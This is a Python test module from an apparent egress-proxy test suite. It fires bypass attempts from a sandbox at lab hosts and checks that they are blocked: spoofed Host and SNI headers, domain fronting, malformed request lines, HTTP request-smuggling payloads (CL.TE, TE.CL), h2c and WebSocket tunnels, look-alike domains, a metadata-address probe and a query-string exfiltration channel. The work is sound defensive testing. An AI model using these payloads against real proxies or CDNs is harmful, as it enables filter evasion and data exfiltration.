"""Catalogue items 18-30: identity (name, address, SNI, Host, certificate), from the main jail.

Most attacks aim at the lab's "CDN": one address serving a.cdn.example (allowed),
b.cdn.example (not) and look-alike names, routing by Host like a real one, so a request
the proxy wrongly lets through is served and logged with its site. Spoofed destinations
point at denied.example's server or at an address nothing serves (the catch-all logs it).
"""

from __future__ import annotations

import pytest

import attacklib as lib
import jailrun as jail
from attacklib import CDN, CDN_ALLOWED, CDN_DENIED, LOOKALIKES, PINNED, UPLOAD, WWW

pytestmark = pytest.mark.root

A = lib.declare_module(__name__)
CDN4, CDN6 = CDN
DENIED4, DENIED6 = "198.51.100.20", "2001:db8:20::20"
WWW4 = "198.51.100.10"
V4_NAME = jail.V4_ONLY[0]
ONLY_ALLOWED_SITE = {"site": CDN_ALLOWED}


def raw_http(request: str, host: str = CDN4, port: int = 80, **kw) -> dict:
    return dict(host=host, port=port, payload=request, **kw)


# -- 18 spoofed Host -------------------------------------------------------------------------
A(18, "plain HTTP to an allowed name", "curl", control=True, expect=lib.status(200),
  argv=[f"http://{V4_NAME}/c18/@T@"])
for label, ip in (("denied.example's address", DENIED4), ("an address nothing serves",
                                                          "198.51.100.123"),
                  ("v6 denied.example", DENIED6), ("the metadata service", "169.254.169.254")):
    A(18, f"Host of an allowed name sent to {label}", "curl",
      argv=["--resolve", f"{WWW}:80:{ip}", f"http://{WWW}/@T@"],
      may_reach={"server_ip": lib.DEFAULT_WWW[0 if ":" not in ip else 1]})

# -- 19 spoofed SNI --------------------------------------------------------------------------
A(19, "HTTPS to an allowed name", "curl", control=True, expect=lib.status(200),
  argv=[f"https://{V4_NAME}/c19/@T@"])
for label, ip in (("denied.example's address", DENIED4), ("an address nothing serves",
                                                          "198.51.100.123"),
                  ("v6 denied.example", DENIED6)):
    A(19, f"SNI of an allowed name sent to {label}", "curl",
      argv=["--resolve", f"{WWW}:443:{ip}", f"https://{WWW}/@T@"],
      may_reach={"server_ip": lib.DEFAULT_WWW[0 if ":" not in ip else 1]})

# -- 20 fronting -----------------------------------------------------------------------------
A(20, "HTTPS to the CDN's allowed site", "curl", control=True, expect=lib.status(200),
  argv=[f"https://{CDN_ALLOWED}/c20/@T@"])
A(20, "SNI allowed, Host denied (HTTP/1.1)", "curl", expect=lib.status(421, 403),
  argv=["--http1.1", "-H", f"Host: {CDN_DENIED}", f"https://{CDN_ALLOWED}/@T@"])
A(20, "SNI allowed, Host denied, over HTTP/2", "curl", expect=lib.status(421, 403),
  argv=["--http2", "-H", f"Host: {CDN_DENIED}", f"https://{CDN_ALLOWED}/@T@"])
A(20, "SNI allowed, Host of another allowed name", "curl", expect=lib.status(421, 403),
  argv=["--http1.1", "-H", f"Host: {V4_NAME}", f"https://{CDN_ALLOWED}/@T@"])
A(20, "SNI denied, Host allowed", "tcp", host=CDN4, port=443, tls=True, sni=CDN_DENIED,
  payload=f"GET /@T@ HTTP/1.1\r\nHost: {CDN_ALLOWED}\r\nConnection: close\r\n\r\n",
  expect=lambda r: r.get("status") != 200)

# -- 21 absolute form, CONNECT, userinfo, odd request lines -----------------------------------
A(21, "a well-formed request to the CDN's allowed site", "tcp", control=True,
  expect=lib.status(200),
  **raw_http(f"GET /c21/@T@ HTTP/1.1\r\nHost: {CDN_ALLOWED}\r\nConnection: close\r\n\r\n"))
ODD = {
    "absolute form naming the denied site":
        f"GET http://{CDN_DENIED}/@T@ HTTP/1.1\r\nHost: {CDN_ALLOWED}\r\n\r\n",
    "absolute form, Host denied":
        f"GET http://{CDN_ALLOWED}/@T@ HTTP/1.1\r\nHost: {CDN_DENIED}\r\n\r\n",
    "CONNECT to the denied site, then a request":
        f"CONNECT {CDN_DENIED}:80 HTTP/1.1\r\nHost: {CDN_DENIED}:80\r\n\r\n"
        f"GET /@T@ HTTP/1.1\r\nHost: {CDN_DENIED}\r\n\r\n",
    "CONNECT to an address": f"CONNECT {CDN4}:80 HTTP/1.1\r\nHost: {CDN_ALLOWED}\r\n\r\n"
                             f"GET /@T@ HTTP/1.1\r\nHost: {CDN_DENIED}\r\n\r\n",
    "userinfo naming the allowed site":
        f"GET http://{CDN_ALLOWED}@{CDN_DENIED}/@T@ HTTP/1.1\r\nHost: {CDN_DENIED}\r\n\r\n",
    "two Host headers": f"GET /@T@ HTTP/1.1\r\nHost: {CDN_ALLOWED}\r\nHost: {CDN_DENIED}\r\n\r\n",
    "two Host headers, denied first":
        f"GET /@T@ HTTP/1.1\r\nHost: {CDN_DENIED}\r\nHost: {CDN_ALLOWED}\r\n\r\n",
    "Host with a space before the colon":
        f"GET /@T@ HTTP/1.1\r\nHost : {CDN_DENIED}\r\n\r\n",
    "Host folded onto a second line":
        f"GET /@T@ HTTP/1.1\r\nHost: {CDN_ALLOWED}\r\n {CDN_DENIED}\r\n\r\n",
    "bare LF line ends": f"GET /@T@ HTTP/1.1\nHost: {CDN_DENIED}\n\n",
    "HTTP/0.9 request": "GET /@T@\r\n\r\n",
    "Host with a path": f"GET /@T@ HTTP/1.1\r\nHost: {CDN_DENIED}/{CDN_ALLOWED}\r\n\r\n",
    "Host with userinfo": f"GET /@T@ HTTP/1.1\r\nHost: {CDN_ALLOWED}@{CDN_DENIED}\r\n\r\n",
    "Host with a NUL": f"GET /@T@ HTTP/1.1\r\nHost: {CDN_DENIED}\x00.{CDN_ALLOWED}\r\n\r\n",
    "a tab in the request line": f"GET\t/@T@\tHTTP/1.1\r\nHost: {CDN_DENIED}\r\n\r\n",
    "no Host at all": "GET /@T@ HTTP/1.1\r\n\r\n",
}
for title, request in ODD.items():
    A(21, title, "tcp", expect=lambda r: r.get("status") != 200, may_reach=ONLY_ALLOWED_SITE,
      **raw_http(request))
A(21, "userinfo in the URL (curl)", "curl", expect=lib.not_ok_status,
  argv=["--resolve", f"{CDN_DENIED}:80:{CDN4}", f"http://{CDN_ALLOWED}@{CDN_DENIED}/@T@"])

# -- 22 HTTP/2 coalescing --------------------------------------------------------------------
H2 = A(22, "one h2 connection, a stream per authority", "h2", host=CDN_ALLOWED,
       sni=CDN_ALLOWED, streams=[[CDN_ALLOWED, "/c22/ctl"], [CDN_DENIED, "/@T@/denied"],
                                 [V4_NAME, "/@T@/other"], ["LOOKALIKE", "/@T@/lookalike"]],
       may_reach=ONLY_ALLOWED_SITE,
       expect=lambda r: r["alpn"] == "h2" and r["statuses"].get(CDN_ALLOWED) == 200
       and all(s in (403, 421) for a, s in r["statuses"].items() if a != CDN_ALLOWED)
       and len(r["statuses"]) == 4)
H2.args["streams"][3][0] = LOOKALIKES[4]

# -- 23 IP literals, no SNI ------------------------------------------------------------------
A(23, "HTTPS with SNI to the same address", "tcp", control=True, expect=lib.status(200),
  host=WWW4, port=443, tls=True, sni=WWW,
  payload=f"GET /c23/@T@ HTTP/1.1\r\nHost: {WWW}\r\nConnection: close\r\n\r\n")
A(23, "TLS without SNI, Host of an allowed name", "tcp", host=WWW4, port=443, tls=True,
  insecure=True, sni="", payload=f"GET /@T@ HTTP/1.1\r\nHost: {WWW}\r\n\r\n",
  expect=lambda r: r.get("status") != 200)
A(23, "TLS without SNI, v6", "tcp", host="2001:db8:10::10", port=443, tls=True, insecure=True,
  sni="", payload=f"GET /@T@ HTTP/1.1\r\nHost: {WWW}\r\n\r\n",
  expect=lambda r: r.get("status") != 200)
A(23, "HTTP with an IP literal Host", "tcp", host=WWW4, port=80,
  payload=f"GET /@T@ HTTP/1.1\r\nHost: {WWW4}\r\n\r\n", expect=lambda r: r.get("status") != 200)

# -- 24 nothing before the decision ------------------------------------------------------------
for label, ip in (("denied.example", DENIED4), ("an address nothing serves", "198.51.100.124"),
                  ("v6 denied.example", DENIED6)):
    A(24, f"a ClientHello whose SNI carries the canary, to {label}", "tcp", host=ip, port=443,
      tls=True, insecure=True, sni="@T@.denied.example", payload="x",
      expect=lambda r: r.get("status") != 200)

# -- 25 non-HTTP, bad upgrades, h2c --------------------------------------------------------------
A(25, "a WebSocket to an allowed host (control for the upgrades)", "ws", control=True,
  host=WWW, path="/ws", messages=["@T@ hello"], expect=lambda r: r["status"] == 101)
A(25, "non-HTTP bytes to an allowed address on 80", "tcp", host=WWW4, port=80,
  payload="@T@ SSH-2.0-not-http\r\n\r\n", expect=lambda r: r.get("status") != 200)
A(25, "non-TLS, non-HTTP bytes on 443", "tcp", host=WWW4, port=443,
  payload="@T@ raw bytes on 443\r\n\r\n", expect=lambda r: r.get("status") != 200)
A(25, "non-HTTP inside TLS to an allowed name", "tcp", host=WWW4, port=443, tls=True, sni=WWW,
  payload="@T@ raw bytes inside TLS\r\n\r\n", expect=lambda r: r.get("status") != 200,
  may_reach="paths")
A(25, "a 101 that is not a WebSocket (Upgrade: raw)", "tcp", host=WWW4, port=80,
  payload=f"GET /switch HTTP/1.1\r\nHost: {WWW}\r\nUpgrade: pnt-raw\r\nConnection: Upgrade\r\n\r\n",
  after_101="@T@ through a raw tunnel", read=3.0, may_reach={"path": "/switch"})
A(25, "a 101 that is not a WebSocket, over TLS", "tcp", host=WWW4, port=443, tls=True, sni=WWW,
  payload=f"GET /switch HTTP/1.1\r\nHost: {WWW}\r\nUpgrade: pnt-raw\r\nConnection: Upgrade\r\n\r\n",
  after_101="@T@ through a raw tunnel", read=3.0, may_reach={"path": "/switch"})
A(25, "h2c upgrade", "tcp", host=WWW4, port=80, read=3.0, may_reach={"path": "/switch"},
  payload=f"GET /switch HTTP/1.1\r\nHost: {WWW}\r\nUpgrade: h2c\r\nConnection: Upgrade, "
          "HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n\r\n",
  after_101="PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n@T@")
A(25, "h2c with prior knowledge", "tcp", host=WWW4, port=80,
  payload="PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00@T@")

# -- 26 WebSocket --------------------------------------------------------------------------
A(26, "a WebSocket message to an allowed host", "ws", control=True, host=WWW, path="/ws",
  messages=["@T@ over ws"], expect=lambda r: r["status"] == 101 and "@T@" not in r["echoes"])
A(26, "a WebSocket to the denied site (fronted)", "ws", host=CDN_DENIED, sni=CDN_ALLOWED,
  ip=CDN4, path="/ws", messages=["@T@"], expect=lambda r: r["status"] != 101,
  may_reach={"site": CDN_ALLOWED})
A(26, "a WebSocket to the denied site by its own name", "tcp", host=CDN4, port=80,
  payload=f"GET /ws HTTP/1.1\r\nHost: {CDN_DENIED}\r\nUpgrade: websocket\r\nConnection: "
          "Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13"
          "\r\n\r\n", after_101="@T@", expect=lambda r: r.get("status") != 101)

# -- 27 passthrough ------------------------------------------------------------------------
A(27, "a passthrough host, at its own address", "curl", control=True, expect=lib.status(200),
  argv=["--cacert", "@LAB_CA@", f"https://{PINNED[0]}/c27/@T@"])
A(27, "a passthrough SNI at denied.example's address", "curl",
  argv=["--cacert", "@LAB_CA@", "--resolve", f"{PINNED[0]}:443:{DENIED4}",
        f"https://{PINNED[0]}/@T@"], may_reach={"server_ip": PINNED[1]})
A(27, "a passthrough SNI at an address nothing serves", "curl",
  argv=["--cacert", "@LAB_CA@", "--resolve", f"{PINNED[0]}:443:198.51.100.125",
        f"https://{PINNED[0]}/@T@"], may_reach={"server_ip": PINNED[1]})
A(27, "a passthrough name not in DNS", "tcp", host=DENIED4, port=443, tls=True, insecure=True,
  sni="@T@.pinned.example", payload="x", expect=lambda r: r.get("status") != 200,
  may_reach={"kind": "dns"})  # an allowed (wildcard) name: the proxy may look it up

# -- 28 smuggling --------------------------------------------------------------------------
SMUGGLED = f"GET /@T@ HTTP/1.1\r\nHost: {CDN_DENIED}\r\n\r\n"
SMUGGLING = {
    "CL.TE": f"POST /c HTTP/1.1\r\nHost: {CDN_ALLOWED}\r\nContent-Length: {5 + len(SMUGGLED)}"
             f"\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{SMUGGLED}",
    "TE.CL": f"POST /c HTTP/1.1\r\nHost: {CDN_ALLOWED}\r\nContent-Length: 4\r\n"
             f"Transfer-Encoding: chunked\r\n\r\n{len(SMUGGLED) + 2:x}\r\nxx{SMUGGLED}\r\n0\r\n\r\n",
    "two Content-Lengths": f"POST /c HTTP/1.1\r\nHost: {CDN_ALLOWED}\r\nContent-Length: 0\r\n"
                           f"Content-Length: {len(SMUGGLED)}\r\n\r\n{SMUGGLED}",
    "Transfer-Encoding: xchunked": f"POST /c HTTP/1.1\r\nHost: {CDN_ALLOWED}\r\n"
                                   f"Transfer-Encoding: xchunked\r\nContent-Length: 0\r\n\r\n"
                                   f"{SMUGGLED}",
    "Transfer-Encoding with a space": f"POST /c HTTP/1.1\r\nHost: {CDN_ALLOWED}\r\n"
                                      f"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n{SMUGGLED}",
    "a pipelined second request to the denied site":
        f"GET /c HTTP/1.1\r\nHost: {CDN_ALLOWED}\r\n\r\n{SMUGGLED}",
}
for title, request in SMUGGLING.items():
    A(28, title, "tcp", may_reach="paths", read=3.0, **raw_http(request))

# -- 29 canonical host matching ------------------------------------------------------------------
A(29, "x.wild.example under *.wild.example", "curl", control=True, expect=lib.status(200),
  argv=["https://x.wild.example/c29/@T@"])
A(29, "wild.example itself under *.wild.example", "curl", control=True,
  expect=lib.status(200), argv=["https://wild.example/c29b/@T@"])
A(29, "upper case and a trailing dot", "curl", control=True, expect=lib.status(200),
  argv=[f"https://{V4_NAME.upper()}./c29c/@T@"])
for name in LOOKALIKES:
    for scheme in ("https", "http"):
        port = 443 if scheme == "https" else 80
        A(29, f"{name} over {scheme}", "curl", expect=lib.not_ok_status,
          argv=["--resolve", f"{name}:{port}:{CDN4}", f"{scheme}://{name}/@T@"])
A(29, "a homograph of a.cdn.example, as Unicode", "curl", expect=lib.not_ok_status,
  argv=["--resolve", f"{lib.HOMOGRAPHS[1].encode('idna').decode()}:443:{CDN4}",
        f"https://{lib.HOMOGRAPHS[1]}/@T@"])

# -- 30 allowed hosts that take uploads ---------------------------------------------------------
A(30, "GET under the allowed path", "curl", control=True, expect=lib.status(200),
  argv=[f"https://{UPLOAD[0]}/public/c30/@T@"])
A(30, "POST to a host allowed for GET only", "curl", expect=lib.status(403),
  argv=["--data-binary", "@T@", f"https://{UPLOAD[0]}/public/x"])
A(30, "GET outside the allowed paths", "curl", expect=lib.status(403),
  argv=[f"https://{UPLOAD[0]}/private/@T@"])
A(30, "GET with a path that escapes the pattern", "curl", expect=lib.status(403),
  argv=["--path-as-is", f"https://{UPLOAD[0]}/public/../private/@T@"])
UPLOAD_LIMIT = A(30, "the canary in a query string of an allowed GET", "curl",
                 argv=[f"https://{UPLOAD[0]}/public/x?data=@T@"], judged=False)


@pytest.mark.parametrize("a", lib.params(__name__))
def test_attack(main_run, a):
    lib.judge(main_run, a)


@pytest.mark.threat(30, "an allowed host carries whatever a permitted request holds")
def test_30_an_allowed_request_is_a_channel_out(main_run):
    """The limitation, measured: method and path rules narrow a host, but what an allowed
    request carries (a query string here) reaches it. docs/security.md says so."""
    r = main_run.results[UPLOAD_LIMIT.id]
    assert r["status"] == 200, r
    assert main_run.events_with(main_run.tag(UPLOAD_LIMIT))
